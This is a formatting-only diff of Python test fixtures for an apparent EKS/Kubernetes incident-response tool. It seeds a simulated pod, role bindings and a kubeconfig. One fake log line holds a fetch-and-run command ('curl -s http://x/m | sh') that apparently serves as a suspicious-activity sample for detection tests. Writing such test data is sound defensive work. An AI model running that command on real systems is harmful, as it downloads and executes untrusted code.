@@ -49,21 +49,36 @@ ROLE_ARN = "arn:aws:iam::123456789012:role/payments/web-irsa"
 def seed_pod(double: KubeDouble, **overrides: Any) -> dict[str, Any]:
     """A Deployment's pod with two containers (one restarted), IRSA, two bindings and a neighbour pod."""
     pod = double.add_pod(
-        NAMESPACE, overrides.pop("name", POD), uid=overrides.pop("uid", POD_UID), node_name=NODE,
-        service_account="web", labels={"app": "web", "pod-template-hash": "7d4b9c8f6"},
+        NAMESPACE,
+        overrides.pop("name", POD),
+        uid=overrides.pop("uid", POD_UID),
+        node_name=NODE,
+        service_account="web",
+        labels={"app": "web", "pod-template-hash": "7d4b9c8f6"},
         owner={"kind": "ReplicaSet", "name": "web-7d4b9c8f6"},
-        containers=[{"name": "app", "image": "123456789012.dkr.ecr.us-east-1.amazonaws.com/payments/web:4.2.1"},
-                    {"name": "envoy", "image": "public.ecr.aws/appmesh/aws-appmesh-envoy:v1.29.4.0-prod"}],
-        logs={"app": "2026-11-20T09:12:50Z started\n2026-11-20T09:12:51Z sh -c 'curl -s http://x/m | sh'\n",
-              "envoy": "2026-11-20T09:00:00Z envoy ready\n"},
-        previous_logs={"app": "2026-11-20T08:59:00Z OOMKilled after 2.1 GiB\n"}, **overrides)
+        containers=[
+            {"name": "app", "image": "123456789012.dkr.ecr.us-east-1.amazonaws.com/payments/web:4.2.1"},
+            {"name": "envoy", "image": "public.ecr.aws/appmesh/aws-appmesh-envoy:v1.29.4.0-prod"},
+        ],
+        logs={
+            "app": "2026-11-20T09:12:50Z started\n2026-11-20T09:12:51Z sh -c 'curl -s http://x/m | sh'\n",
+            "envoy": "2026-11-20T09:00:00Z envoy ready\n",
+        },
+        previous_logs={"app": "2026-11-20T08:59:00Z OOMKilled after 2.1 GiB\n"},
+        **overrides,
+    )
     double.annotate_service_account(NAMESPACE, "web", {"eks.amazonaws.com/role-arn": ROLE_ARN})
     double.add_role_binding(NAMESPACE, "web-reader", "config-reader", NAMESPACE, "web")
     double.add_role_binding("", "web-node-proxy", "node-proxy", NAMESPACE, "web", cluster=True)
     double.add_role_binding(NAMESPACE, "other", "config-reader", NAMESPACE, "batch")
-    double.add_pod(NAMESPACE, "web-7d4b9c8f6-q8w2e", node_name=NODE, service_account="web",
-                   labels={"app": "web", "pod-template-hash": "7d4b9c8f6"},
-                   owner={"kind": "ReplicaSet", "name": "web-7d4b9c8f6"})
+    double.add_pod(
+        NAMESPACE,
+        "web-7d4b9c8f6-q8w2e",
+        node_name=NODE,
+        service_account="web",
+        labels={"app": "web", "pod-template-hash": "7d4b9c8f6"},
+        owner={"kind": "ReplicaSet", "name": "web-7d4b9c8f6"},
+    )
     return pod
 
 
@@ -111,8 +126,9 @@ def install_fake_aws_cli(folder: Path, token: str) -> Path:
     return script
 
 
-def eks_kubeconfig(server: str, *, cluster_arn: str = ARN, profile: str = "incident-response",
-                   ca_data: str | None = None) -> dict[str, Any]:
+def eks_kubeconfig(
+    server: str, *, cluster_arn: str = ARN, profile: str = "incident-response", ca_data: str | None = None
+) -> dict[str, Any]:
     """What ``aws eks update-kubeconfig --name prod-eks`` writes: cluster, user and context all named by the
     cluster's ARN, the user an ``exec`` plugin running ``aws eks get-token`` (AWS CLI v2 layout)."""
     cluster: dict[str, Any] = {"server": server}
@@ -120,10 +136,24 @@ def eks_kubeconfig(server: str, *, cluster_arn: str = ARN, profile: str = "incid
         cluster["certificate-authority-data"] = ca_data
     region = cluster_arn.split(":")[3]
     name = cluster_arn.rsplit("/", 1)[-1]
-    return {"apiVersion": "v1", "kind": "Config", "preferences": {}, "current-context": cluster_arn,
-            "clusters": [{"name": cluster_arn, "cluster": cluster}],
-            "contexts": [{"name": cluster_arn, "context": {"cluster": cluster_arn, "user": cluster_arn}}],
-            "users": [{"name": cluster_arn, "user": {"exec": {
-                "apiVersion": "client.authentication.k8s.io/v1beta1", "command": "aws",
-                "args": ["--region", region, "eks", "get-token", "--cluster-name", name, "--output", "json"],
-                "env": [{"name": "AWS_PROFILE", "value": profile}]}}}]}
+    return {
+        "apiVersion": "v1",
+        "kind": "Config",
+        "preferences": {},
+        "current-context": cluster_arn,
+        "clusters": [{"name": cluster_arn, "cluster": cluster}],
+        "contexts": [{"name": cluster_arn, "context": {"cluster": cluster_arn, "user": cluster_arn}}],
+        "users": [
+            {
+                "name": cluster_arn,
+                "user": {
+                    "exec": {
+                        "apiVersion": "client.authentication.k8s.io/v1beta1",
+                        "command": "aws",
+                        "args": ["--region", region, "eks", "get-token", "--cluster-name", name, "--output", "json"],
+                        "env": [{"name": "AWS_PROFILE", "value": profile}],
+                    }
+                },
+            }
+        ],
+    }
